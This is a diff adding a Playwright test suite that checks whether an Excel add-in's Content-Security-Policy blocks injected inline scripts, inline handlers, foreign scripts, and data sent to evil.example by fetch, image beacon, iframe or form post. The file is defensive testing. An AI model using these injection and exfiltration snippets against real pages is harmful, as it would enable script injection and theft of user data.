@@ -1,0 +1,190 @@
+/** The pages under the headers and the policies that they are deployed with, in a real Chromium. */
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { headersFor } from '../../scripts/headers.cjs';
+import { launch, serveBuild, type Site } from './support/browser';
+
+const ROOT = path.resolve(__dirname, '../..');
+const OFFICE_JS = path.join(ROOT, 'node_modules/@microsoft/office-js/dist');
+const HOSTED = 'https://appsforoffice.microsoft.com/lib/1/hosted/';
+const READY = 30_000;
+
+interface Violation {
+  readonly directive: string;
+  readonly blocked: string;
+}
+
+let browser: Browser;
+let site: Site;
+
+beforeAll(async () => {
+  [browser, site] = await Promise.all([launch(), serveBuild()]);
+});
+afterAll(async () => {
+  await browser?.close();
+  await site?.close();
+});
+
+/** A page whose violations of its policy are kept; office.js comes from the package instead of the net. */
+async function open(file: string): Promise<{ page: Page; violations: Violation[]; failures: string[] }> {
+  const context = await browser.newContext({ viewport: { width: 1300, height: 900 } });
+  const page = await context.newPage();
+  const violations: Violation[] = [];
+  const failures: string[] = [];
+  await page.exposeFunction('nmViolation', (violation: Violation) => violations.push(violation));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      const { nmViolation } = globalThis as unknown as { nmViolation(violation: Violation): void };
+      nmViolation({ directive: effectiveDirective, blocked: blockedURI });
+    });
+  });
+  page.on('pageerror', (error) => failures.push(error.message));
+  await page.route(/^https:\/\/appsforoffice\.microsoft\.com\//, (route) => {
+    const local = path.join(
+      OFFICE_JS,
+      route
+        .request()
+        .url()
+        .slice(HOSTED.length)
+        .replace(/[?#].*$/, ''),
+    );
+    return existsSync(local) ? route.fulfill({ path: local }) : route.abort();
+  });
+  await page.goto(`${site.origin}/${file}`);
+  return { page, violations, failures };
+}
+
+/** The policy is not only there: it stops what it is there to stop. */
+async function blockedBy(page: Page, attack: string): Promise<string> {
+  return page.evaluate(
+    (code) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+          once: true,
+        });
+        const run: Readonly<Record<string, () => void>> = {
+          'inline script': () => {
+            const script = document.createElement('script');
+            script.textContent = 'globalThis.attacked = true';
+            document.body.append(script);
+          },
+          'foreign script': () => {
+            const script = document.createElement('script');
+            script.src = 'https://evil.example/x.js';
+            document.body.append(script);
+          },
+          'inline handler': () => {
+            document.body.insertAdjacentHTML(
+              'beforeend',
+              '<img src="no-such.png" onerror="globalThis.attacked = true">',
+            );
+          },
+          'data to a stranger': () => void fetch('https://evil.example/?rows=1').catch(() => undefined),
+          'picture from a stranger': () => {
+            new Image().src = 'https://evil.example/pixel.gif?rows=1';
+          },
+          'frame of a stranger': () => {
+            const frame = document.createElement('iframe');
+            frame.src = 'https://evil.example/';
+            document.body.append(frame);
+          },
+          'form to a stranger': () => {
+            const form = document.createElement('form');
+            form.action = 'https://evil.example/';
+            form.method = 'post';
+            document.body.append(form);
+            form.submit();
+          },
+        };
+        run[code]();
+        setTimeout(() => resolve('nothing'), 3_000);
+      }),
+    attack,
+  );
+}
+
+test('the preview works, calculates and checks without breaking its policy', async () => {
+  const { page, violations, failures } = await open('preview.html');
+  const check = page.getByRole('button', { name: /^Check/ }).first();
+  await check.waitFor({ timeout: READY });
+  await check.click();
+  await page
+    .getByText(/\d+ findings?\./)
+    .first()
+    .waitFor({ timeout: READY });
+  expect([violations, failures]).toEqual([[], []]);
+  await page.context().close();
+});
+
+/** office.js reports its own use to Microsoft in a hidden frame, on some hosts. The policy stops that and nothing else. */
+const TELEMETRY = { directive: 'frame-src', blocked: 'https://telemetryservice.firstpartyapps.oaspapps.com' };
+
+test('the pane starts beside office.js, and the policy stops nothing of it but telemetry', async () => {
+  const { page, violations, failures } = await open('taskpane.html');
+  await page.getByText('This page is the task pane of an Excel add-in.').waitFor({ timeout: READY });
+  expect(
+    violations.filter(
+      ({ directive, blocked }) => directive !== TELEMETRY.directive || !blocked.startsWith(TELEMETRY.blocked),
+    ),
+  ).toEqual([]);
+  expect(failures).toEqual([]);
+  await page.context().close();
+});
+
+test('on Excel for the web office.js gets every script that it asks for', async () => {
+  const { page, violations } = await open('taskpane.html?_host_Info=Excel$Web$16.01$en-US$$$$0');
+  await page.waitForFunction(() => 'Excel' in globalThis && 'OfficeExtension' in globalThis, undefined, {
+    timeout: READY,
+  });
+  expect(violations.filter(({ directive }) => directive.startsWith('script'))).toEqual([]);
+  await page.context().close();
+});
+
+test.each(['commands.html', 'functions.html', 'help/index.html', 'help/moe-shortfall.html'])(
+  '%s loads without breaking its policy',
+  async (file) => {
+    const { page, violations } = await open(file);
+    await page.waitForLoadState('load');
+    expect(violations).toEqual([]);
+    await page.context().close();
+  },
+);
+
+describe.each(['taskpane.html', 'preview.html', 'help/index.html'])('the policy of %s stops', (file) => {
+  test.each([
+    ['inline script', 'script-src-elem'],
+    ['foreign script', 'script-src-elem'],
+    ['inline handler', 'script-src-attr'],
+    ['data to a stranger', 'connect-src'],
+    ['picture from a stranger', 'img-src'],
+    ['frame of a stranger', 'frame-src'],
+    ['form to a stranger', 'form-action'],
+  ])('%s', async (attack, directive) => {
+    const { page } = await open(file);
+    expect(await blockedBy(page, attack)).toBe(directive);
+    expect(await page.evaluate(() => 'attacked' in globalThis)).toBe(false);
+    await page.context().close();
+  });
+});
+
+test('every page of the build brings its policy, and no page has a script of its own in it', () => {
+  const web = path.join(ROOT, 'dist/web');
+  const pages = readdirSync(web).filter((name) => name.endsWith('.html'));
+  expect(pages.sort()).toEqual(['commands.html', 'functions.html', 'preview.html', 'taskpane.html']);
+  for (const name of pages) {
+    const html = readFileSync(path.join(web, name), 'utf8');
+    // Before any script, or it would not bind that script.
+    expect(html).toMatch(
+      /^<!doctype html><html lang=en><head><meta charset=utf-8><meta http-equiv=Content-Security-Policy content="default-src 'none'; script-src 'self'/,
+    );
+    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|\son\w+=|javascript:/i);
+  }
+});
+
+test('the headers are sent', async () => {
+  const response = await fetch(`${site.origin}/preview.html`);
+  for (const [name, value] of Object.entries(headersFor('preview.html'))) {
+    expect([name, response.headers.get(name)]).toEqual([name, value]);
+  }
+});
